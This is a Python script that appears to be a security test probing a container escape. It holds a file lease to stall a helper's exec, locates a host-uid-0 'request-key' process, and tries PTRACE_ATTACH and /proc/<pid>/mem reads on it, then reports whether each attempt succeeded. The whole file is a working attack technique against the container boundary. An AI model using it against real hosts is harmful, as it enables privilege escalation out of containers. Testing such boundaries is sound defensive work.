#!/usr/bin/python3
# Plays container root against the broker's stage two while the helper,
# its credentials already the container's, waits in its exec: a write
# lease on the helper's program holds it there. Stage two is still host
# uid 0 with host fds in this pid namespace; with fs.suid_dumpable=1 the
# helper's credential change would have made a memory it shares with stage
# two dumpable. Tries PTRACE_ATTACH and /proc/<pid>/mem on stage two, then
# lets the helper go.
# Usage: trace_stage_two.py <program> <report-file>
import ctypes, fcntl, os, signal, sys, time

F_SETLEASE = getattr(fcntl, 'F_SETLEASE', 1024)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
prog, report = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
broken = False

def on_io(sig, frame):
    global broken
    broken = True

def stage_two():
    # comm of the broker's binary, one level of pid namespace (the helper,
    # pid 1 of a child namespace, shows two)
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            comm = open(f'/proc/{p}/comm').read().strip()
            nspid = [l.split()[1:] for l in open(f'/proc/{p}/status') if l.startswith('NSpid:')][0]
        except (OSError, IndexError):
            continue
        if comm == 'request-key' and len(nspid) == 1:
            return int(p)
    return None

signal.signal(signal.SIGIO, on_io)
fd = os.open(prog, os.O_RDONLY)
fcntl.fcntl(fd, F_SETLEASE, fcntl.F_WRLCK)
with open(report, 'w') as f:
    f.write('leased\n')
end = time.time() + 60
while not broken and time.time() < end:
    time.sleep(0.01)
pid = stage_two() if broken else None
wins = 0
if pid:
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        wins += 1
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    try:
        with open(f'/proc/{pid}/mem', 'rb') as m:
            m.read(1)
        wins += 1
    except OSError:
        pass
fcntl.fcntl(fd, F_SETLEASE, fcntl.F_UNLCK)
os.close(fd)
with open(report, 'a') as f:
    f.write(f'found={1 if pid else 0}\nwins={wins}\n')
